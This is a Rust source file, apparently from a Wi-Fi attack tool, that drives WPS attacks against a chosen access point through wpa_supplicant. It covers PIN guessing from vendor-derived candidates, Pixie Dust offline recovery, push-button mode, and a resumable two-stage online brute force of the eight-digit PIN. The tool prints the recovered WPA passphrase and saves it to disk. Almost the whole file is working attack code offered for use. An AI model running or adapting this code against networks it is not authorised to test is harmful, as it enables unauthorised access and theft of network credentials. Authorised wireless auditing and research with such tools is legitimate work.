//! Attack orchestration: single-PIN, push-button, Pixie Dust and online
//! brute-force flows against one access point.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use colored::Colorize;
use inquire::{Confirm, Select};

use crate::events::{self, EventContext, EventSignal};
use crate::mac::MacAddress;
use crate::pins;
use crate::pixie::{self, PixieData};
use crate::status::{BruteforceStatus, ConnectionStatus, TerminalStatus, WpsPhase};
use crate::storage::Storage;
use crate::supplicant::Supplicant;
use crate::{Error, Result};

const DEFAULT_PIN: &str = "12345670";
const FIRST_HALF_SPACE: u32 = 10_000;
const SECOND_HALF_SPACE: u32 = 1_000;
const TIMEOUT_BACKOFF: Duration = Duration::from_secs(1);
const DEAUTH_BACKOFF: Duration = Duration::from_secs(2);

enum RetryReason {
    Timeout,
    WpsFail,
    Deauth,
}

enum BruteforceOutcome {
    Found(String),
    Exhausted,
}

/// One attack session: owns the supplicant, the per-exchange state, and
/// the on-disk artifacts for the target AP.
pub struct Session {
    supplicant: Supplicant,
    pixie: PixieData,
    status: ConnectionStatus,
    bruteforce: BruteforceStatus,
    storage: Storage,
    interface: String,
    save_result: bool,
    print_debug: bool,
    interrupted: Arc<AtomicBool>,
}

impl Session {
    pub fn new(
        interface: &str,
        save_result: bool,
        print_debug: bool,
        interrupted: Arc<AtomicBool>,
    ) -> Result<Self> {
        Ok(Self {
            supplicant: Supplicant::start(interface)?,
            pixie: PixieData::new(),
            status: ConnectionStatus::new(),
            bruteforce: BruteforceStatus::new(),
            storage: Storage::open()?,
            interface: interface.to_string(),
            save_result,
            print_debug,
            interrupted,
        })
    }

    /// Release the supplicant and all of its on-disk resources.
    pub fn close(&mut self) {
        self.supplicant.close();
    }

    fn check_interrupt(&self) -> Result<()> {
        if self.interrupted.load(Ordering::Relaxed) {
            return Err(Error::UserAbort);
        }
        Ok(())
    }

    /// One full connection flow against `bssid`, per the selected mode.
    /// `Ok(true)` means the PSK was recovered.
    #[allow(clippy::too_many_arguments)]
    pub fn single_connection(
        &mut self,
        bssid: Option<&str>,
        pin: Option<String>,
        pixie_mode: bool,
        pbc_mode: bool,
        show_pixie_cmd: bool,
        pixie_force: bool,
        store_pin_on_fail: bool,
    ) -> Result<bool> {
        let mut pin = pin;
        if pin.is_none() && !pbc_mode {
            let target = bssid.ok_or_else(|| Error::InvalidMac {
                wrong_input: String::new(),
            })?;
            pin = Some(self.choose_pin(target, pixie_mode)?);
        }

        if let Err(err) = self.wps_attempt(bssid, pin.as_deref(), pixie_mode, pbc_mode) {
            if matches!(err, Error::UserAbort) {
                println!("\nAborting…");
                if store_pin_on_fail {
                    if let (Some(bssid), Some(pin)) = (bssid, pin.as_deref()) {
                        self.memoize_pin(bssid, pin);
                    }
                }
            }
            return Err(err);
        }

        let bssid_str = if pbc_mode {
            self.status.bssid.clone()
        } else {
            bssid.unwrap_or_default().to_string()
        };
        let pin_str = if pbc_mode {
            "<PBC mode>".to_string()
        } else {
            pin.clone().unwrap_or_default()
        };

        if self.status.terminal == TerminalStatus::GotPsk {
            println!("{}", format!("[+] WPS PIN: '{pin_str}'").green());
            println!("{}", format!("[+] WPA PSK: '{}'", self.status.wpa_psk).green());
            println!("{}", format!("[+] AP SSID: '{}'", self.status.essid).green());
            if self.save_result {
                let dir = self
                    .storage
                    .save_report(&bssid_str, &self.status.essid, &pin_str, &self.status.wpa_psk)?;
                println!("[i] Credentials saved to {}", dir.display());
            }
            if !pbc_mode {
                self.storage.remove_pin(&bssid_str);
            }
            return Ok(true);
        }

        if pixie_mode {
            if self.pixie.got_basic() {
                if let Some(recovered) = pixie::run_solver(&self.pixie, show_pixie_cmd, pixie_force)? {
                    // Reuse the recovered PIN online; keep it on disk even
                    // if that connection then fails.
                    return self.single_connection(
                        bssid,
                        Some(recovered),
                        false,
                        false,
                        false,
                        false,
                        true,
                    );
                }
                return Ok(false);
            }
            println!("{}", "[!] Not enough data to run Pixie Dust attack".yellow());
            return Ok(false);
        }

        if store_pin_on_fail {
            if let Some(pin) = pin.as_deref() {
                self.memoize_pin(&bssid_str, pin);
            }
        }
        Ok(false)
    }

    /// Two-stage online brute force, resumable per BSSID.
    pub fn smart_bruteforce(
        &mut self,
        bssid: &str,
        start_pin: Option<&str>,
        delay: Option<f64>,
    ) -> Result<()> {
        let cursor = match start_pin {
            Some(pin) if pin.len() >= 4 => pin.chars().take(7).collect::<String>(),
            _ => self.restore_session(bssid),
        };
        if !(cursor.len() == 4 || cursor.len() == 7) || !cursor.bytes().all(|b| b.is_ascii_digit())
        {
            return Err(Error::InvalidPinFormat { wrong_pin: cursor });
        }
        self.bruteforce = BruteforceStatus::new();
        self.bruteforce.cursor = cursor.clone();

        match self.run_bruteforce(bssid, &cursor, delay) {
            Ok(BruteforceOutcome::Found(pin)) => {
                println!("{}", format!("[+] WPS PIN found: '{pin}'").green());
                self.storage.remove_session(bssid);
                Ok(())
            }
            Ok(BruteforceOutcome::Exhausted) => {
                println!("{}", "[-] PIN space exhausted without success".red());
                self.save_cursor(bssid)?;
                Ok(())
            }
            Err(Error::UserAbort) => {
                println!("\nAborting…");
                self.save_cursor(bssid)?;
                Err(Error::UserAbort)
            }
            Err(err) => Err(err),
        }
    }

    fn restore_session(&self, bssid: &str) -> String {
        if let Some(saved) = self.storage.load_session(bssid) {
            if !saved.is_empty() {
                let restore = Confirm::new(&format!("Restore previous session for {bssid}?"))
                    .with_default(true)
                    .prompt()
                    .unwrap_or(false);
                if restore {
                    return saved;
                }
            }
        }
        "0000".to_string()
    }

    fn save_cursor(&self, bssid: &str) -> Result<()> {
        let path = self.storage.save_session(bssid, &self.bruteforce.cursor)?;
        println!("[i] Session saved in {}", path.display());
        Ok(())
    }

    fn run_bruteforce(
        &mut self,
        bssid: &str,
        cursor: &str,
        delay: Option<f64>,
    ) -> Result<BruteforceOutcome> {
        if cursor.len() == 4 {
            let Some(first) = self.first_half_bruteforce(bssid, cursor, delay)? else {
                return Ok(BruteforceOutcome::Exhausted);
            };
            if self.status.terminal == TerminalStatus::GotPsk {
                let body: u32 = format!("{first}000").parse().unwrap_or(0);
                return Ok(BruteforceOutcome::Found(format!(
                    "{first}000{}",
                    pins::checksum(body)
                )));
            }
            match self.second_half_bruteforce(bssid, &first, "001", delay)? {
                Some(pin) => Ok(BruteforceOutcome::Found(pin)),
                None => Ok(BruteforceOutcome::Exhausted),
            }
        } else {
            let (first, second) = cursor.split_at(4);
            match self.second_half_bruteforce(bssid, first, second, delay)? {
                Some(pin) => Ok(BruteforceOutcome::Found(pin)),
                None => Ok(BruteforceOutcome::Exhausted),
            }
        }
    }

    /// Walk 4-digit prefixes until the registrar accepts the first half.
    fn first_half_bruteforce(
        &mut self,
        bssid: &str,
        start: &str,
        delay: Option<f64>,
    ) -> Result<Option<String>> {
        let mut first = parse_cursor(start)?;
        while first < FIRST_HALF_SPACE {
            self.check_interrupt()?;
            let prefix = format!("{first:04}");
            let pin = format!("{prefix}000{}", pins::checksum(first * 1000));
            self.single_connection(Some(bssid), Some(pin), false, false, false, false, false)?;
            if self.status.is_first_half_valid() {
                println!("{}", "[+] First half found".green());
                return Ok(Some(prefix));
            }
            if self.status.terminal == TerminalStatus::WpsFail {
                println!("{}", "[!] WPS transaction failed, re-trying last pin".yellow());
                continue;
            }
            first += 1;
            self.bruteforce.register_attempt(&format!("{first:04}"));
            pace(delay);
        }
        println!("{}", "[-] First half not found".red());
        Ok(None)
    }

    /// Walk 3-digit suffixes under a fixed first half until the exchange
    /// passes M6.
    fn second_half_bruteforce(
        &mut self,
        bssid: &str,
        first: &str,
        start: &str,
        delay: Option<f64>,
    ) -> Result<Option<String>> {
        let prefix = parse_cursor(first)?;
        let mut second = parse_cursor(start)?;
        while second < SECOND_HALF_SPACE {
            self.check_interrupt()?;
            let body = prefix * 1000 + second;
            let pin = format!("{first}{second:03}{}", pins::checksum(body));
            self.single_connection(Some(bssid), Some(pin.clone()), false, false, false, false, false)?;
            if self.status.last_m > 6 {
                return Ok(Some(pin));
            }
            if self.status.terminal == TerminalStatus::WpsFail {
                println!("{}", "[!] WPS transaction failed, re-trying last pin".yellow());
                continue;
            }
            second += 1;
            self.bruteforce
                .register_attempt(&format!("{first}{second:03}"));
            pace(delay);
        }
        Ok(None)
    }

    /// One WPS exchange with bounded retries; always cancels on the way
    /// out.
    fn wps_attempt(
        &mut self,
        bssid: Option<&str>,
        pin: Option<&str>,
        pixie_mode: bool,
        pbc_mode: bool,
    ) -> Result<()> {
        self.status.reset();
        let result = self.run_attempts(bssid, pin, pixie_mode, pbc_mode);
        let _ = self.supplicant.send_only("WPS_CANCEL");
        result
    }

    fn run_attempts(
        &mut self,
        bssid: Option<&str>,
        pin: Option<&str>,
        pixie_mode: bool,
        pbc_mode: bool,
    ) -> Result<()> {
        loop {
            self.check_interrupt()?;
            self.pixie.clear();
            self.status.clear();
            self.supplicant.drain();

            let command = if pbc_mode {
                match bssid {
                    Some(bssid) => {
                        println!("[*] Starting WPS push button connection to {bssid}…");
                        format!("WPS_PBC {bssid}")
                    }
                    None => {
                        println!("[*] Starting WPS push button connection…");
                        "WPS_PBC".to_string()
                    }
                }
            } else {
                let pin = pin.unwrap_or_default();
                println!("[*] Trying PIN '{pin}'…");
                format!("WPS_REG {} {pin}", bssid.unwrap_or_default())
            };

            let reply = self.supplicant.send_and_receive(&command)?;
            if !reply.contains("OK") {
                let response = reply.trim().to_string();
                if response == "UNKNOWN COMMAND" {
                    // The supplicant was built without CONFIG_WPS=y;
                    // nothing this session can do will work.
                    println!(
                        "{}",
                        "[!] It looks like your wpa_supplicant is compiled without WPS protocol \
                         support. Please build wpa_supplicant with WPS support (\"CONFIG_WPS=y\")"
                            .yellow()
                    );
                    return Err(Error::SupplicantProtocol { command, response });
                }
                self.status.terminal = TerminalStatus::WpsFail;
                println!("{}", "[!] Something went wrong — check out debug log".yellow());
                return Ok(());
            }
            self.status.set_phase(WpsPhase::WpsStart);

            let Some(reason) = self.drive_exchange(pixie_mode, pbc_mode)? else {
                return Ok(());
            };
            if !self.status.register_retry() {
                println!("{}", "[-] Maximum retries reached".red());
                return Ok(());
            }
            match reason {
                RetryReason::Timeout => {
                    println!("{}", "[!] Connection timed out, retrying…".yellow());
                    self.supplicant.send_only("WPS_CANCEL")?;
                    thread::sleep(TIMEOUT_BACKOFF);
                }
                RetryReason::WpsFail => {
                    println!("{}", "[!] WPS failure detected, retrying…".yellow());
                    self.supplicant.send_only("WPS_CANCEL")?;
                    thread::sleep(TIMEOUT_BACKOFF);
                }
                RetryReason::Deauth => {
                    println!("{}", "[!] Connection lost, reconnecting…".yellow());
                    thread::sleep(DEAUTH_BACKOFF);
                }
            }
        }
    }

    /// Pump supplicant events until the exchange settles. `None` means a
    /// terminal outcome (or a closed stream); `Some` asks for a retry.
    fn drive_exchange(
        &mut self,
        pixie_mode: bool,
        pbc_mode: bool,
    ) -> Result<Option<RetryReason>> {
        let ctx = EventContext {
            pixie_mode,
            pbc_mode,
            interface: &self.interface,
        };
        loop {
            self.check_interrupt()?;
            if self.status.timed_out() {
                return Ok(Some(RetryReason::Timeout));
            }
            let Some(line) = self.supplicant.read_event_line()? else {
                return Ok(None);
            };
            if line.is_empty() {
                continue;
            }
            if self.print_debug {
                eprintln!("{line}");
            }
            let signal = events::process_line(&line, &ctx, &mut self.status, &mut self.pixie)?;
            if signal == EventSignal::Disconnected {
                return Ok(Some(RetryReason::Deauth));
            }
            match self.status.terminal {
                TerminalStatus::WscNack => {
                    if self.status.last_m >= 5 {
                        println!(
                            "{}",
                            "[!] Late stage WPS failure - could be wrong second half of the PIN"
                                .yellow()
                        );
                    }
                    return Ok(None);
                }
                TerminalStatus::GotPsk => return Ok(None),
                TerminalStatus::WpsFail => {
                    if self.status.can_retry() {
                        return Ok(Some(RetryReason::WpsFail));
                    }
                    return Ok(None);
                }
                TerminalStatus::None => {}
            }
        }
    }

    fn choose_pin(&mut self, bssid: &str, pixie_mode: bool) -> Result<String> {
        if pixie_mode {
            if let Some(stored) = self.storage.load_pin(bssid) {
                if !stored.is_empty() {
                    let reuse = Confirm::new(&format!("Use previously calculated PIN {stored}?"))
                        .with_default(true)
                        .prompt()
                        .unwrap_or(false);
                    if reuse {
                        return Ok(stored);
                    }
                }
            }
            let mac: MacAddress = bssid.parse()?;
            return Ok(pins::likely(mac).unwrap_or_else(|| DEFAULT_PIN.to_string()));
        }
        Ok(self
            .prompt_pin(bssid)?
            .unwrap_or_else(|| DEFAULT_PIN.to_string()))
    }

    fn prompt_pin(&self, bssid: &str) -> Result<Option<String>> {
        let mac: MacAddress = bssid.parse()?;
        let candidates = pins::suggested(mac);
        match candidates.len() {
            0 => Ok(None),
            1 => {
                println!("[i] The only probable PIN is selected: {}", candidates[0].name);
                Ok(Some(candidates[0].pin.clone()))
            }
            _ => {
                println!("PINs generated for {bssid}:");
                let options: Vec<String> = candidates
                    .iter()
                    .map(|c| format!("{:<10} {}", c.pin, c.name))
                    .collect();
                let chosen = Select::new("Select the PIN", options.clone())
                    .prompt()
                    .map_err(|_| Error::UserAbort)?;
                let index = options.iter().position(|o| *o == chosen).unwrap_or(0);
                Ok(Some(candidates[index].pin.clone()))
            }
        }
    }

    fn memoize_pin(&self, bssid: &str, pin: &str) {
        match self.storage.save_pin(bssid, pin) {
            Ok(path) => println!("[i] PIN saved in {}", path.display()),
            Err(err) => println!("{}", format!("[!] Cannot save PIN: {err}").yellow()),
        }
    }
}

fn parse_cursor(cursor: &str) -> Result<u32> {
    cursor.parse().map_err(|_| Error::InvalidPinFormat {
        wrong_pin: cursor.to_string(),
    })
}

fn pace(delay: Option<f64>) {
    if let Some(seconds) = delay {
        if seconds > 0.0 {
            thread::sleep(Duration::from_secs_f64(seconds));
        }
    }
}

